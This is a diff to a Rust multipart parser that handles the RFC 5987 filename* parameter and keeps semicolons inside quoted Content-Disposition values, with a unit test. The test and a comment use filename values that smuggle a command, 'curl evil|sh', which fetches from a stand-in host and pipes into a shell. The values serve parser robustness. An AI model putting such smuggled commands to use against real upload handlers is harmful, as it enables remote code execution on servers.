@@ -64,6 +64,8 @@ pub(crate) struct Part<'a> {
     pub(crate) name: &'a str,
     /// The `filename`, for file uploads.
     pub(crate) filename: Option<&'a str>,
+    /// The RFC 5987 `filename*` (`UTF-8''%3Bx.php`), which parsers prefer when it is there.
+    pub(crate) filename_ext: Option<&'a str>,
     /// Its other headers (`Content-Type`, …), name and value.
     pub(crate) headers: Vec<(&'a str, &'a str)>,
     /// Its content, without the line break that precedes the next delimiter.
@@ -92,6 +94,7 @@ pub(crate) fn multipart<'a>(body: &'a str, boundary: &str) -> Option<Vec<Part<'a
         let mut part = Part {
             name: "",
             filename: None,
+            filename_ext: None,
             headers: Vec::new(),
             content,
         };
@@ -103,6 +106,8 @@ pub(crate) fn multipart<'a>(body: &'a str, boundary: &str) -> Option<Vec<Part<'a
             if name.eq_ignore_ascii_case("content-disposition") {
                 part.name = disposition_param(value, "name").unwrap_or_default();
                 part.filename = disposition_param(value, "filename");
+                part.filename_ext = disposition_param(value, "filename*")
+                    .map(|v| v.split_once("''").map_or(v, |(_, v)| v));
             } else {
                 part.headers.push((name, value));
             }
@@ -130,13 +135,38 @@ fn split_head(piece: &str) -> (&str, &str) {
 }
 
 /// A parameter of a `Content-Disposition` value (`form-data; name="a"; filename="b.txt"`).
+/// A quoted value runs to its closing quote, `;` and escaped quotes included, as multipart
+/// parsers read it (a split at every `;` would cut `filename="a; curl …|sh"` short).
 fn disposition_param<'a>(value: &'a str, key: &str) -> Option<&'a str> {
-    value.split(';').skip(1).find_map(|param| {
-        let (k, v) = param.split_once('=')?;
-        k.trim()
-            .eq_ignore_ascii_case(key)
-            .then(|| v.trim().trim_matches('"'))
-    })
+    let b = value.as_bytes();
+    // Each parameter starts after a `;` that no quoted value holds.
+    let mut i = memchr::memchr(b';', b)? + 1;
+    while i < b.len() {
+        let eq = i + memchr::memchr2(b'=', b';', &b[i..])?;
+        if b[eq] == b';' {
+            i = eq + 1;
+            continue;
+        }
+        let name = value[i..eq].trim();
+        let rest = &value[eq + 1..];
+        let start = eq + 1 + (rest.len() - rest.trim_start().len());
+        let (v, end) = if b.get(start) == Some(&b'"') {
+            let mut j = start + 1;
+            while j < b.len() && b[j] != b'"' {
+                j += if b[j] == b'\\' { 2 } else { 1 };
+            }
+            let j = j.min(b.len());
+            (&value[start + 1..j], j)
+        } else {
+            let j = memchr::memchr(b';', &b[start..]).map_or(b.len(), |k| start + k);
+            (value[start..j].trim_end(), j)
+        };
+        if name.eq_ignore_ascii_case(key) {
+            return Some(v);
+        }
+        i = end + memchr::memchr(b';', &b[end..]).map_or(b.len(), |k| k + 1);
+    }
+    None
 }
 
 /// What an XML document is made of, in document order.
@@ -350,6 +380,26 @@ mod tests {
         assert_eq!(layout(Some("text/plain"), "<b>hi</b>"), Layout::Text);
         assert_eq!(layout(Some("application/json"), "{\"a\":1}"), Layout::Text);
         assert_eq!(layout(None, "plain"), Layout::Text);
+    }
+
+    #[test]
+    fn quoted_disposition_values_keep_their_semicolons() {
+        let v = r#"form-data; name="a;b"; filename="x; curl evil|sh \"q\".txt"; filename*=UTF-8''%3Bid"#;
+        assert_eq!(disposition_param(v, "name"), Some("a;b"));
+        assert_eq!(
+            disposition_param(v, "filename"),
+            Some(r#"x; curl evil|sh \"q\".txt"#)
+        );
+        assert_eq!(disposition_param(v, "filename*"), Some("UTF-8''%3Bid"));
+        assert_eq!(
+            disposition_param("form-data; name=plain ; x=1", "name"),
+            Some("plain")
+        );
+        assert_eq!(
+            disposition_param("form-data; name=\"open", "name"),
+            Some("open")
+        );
+        assert_eq!(disposition_param("form-data", "name"), None);
     }
 
     #[test]
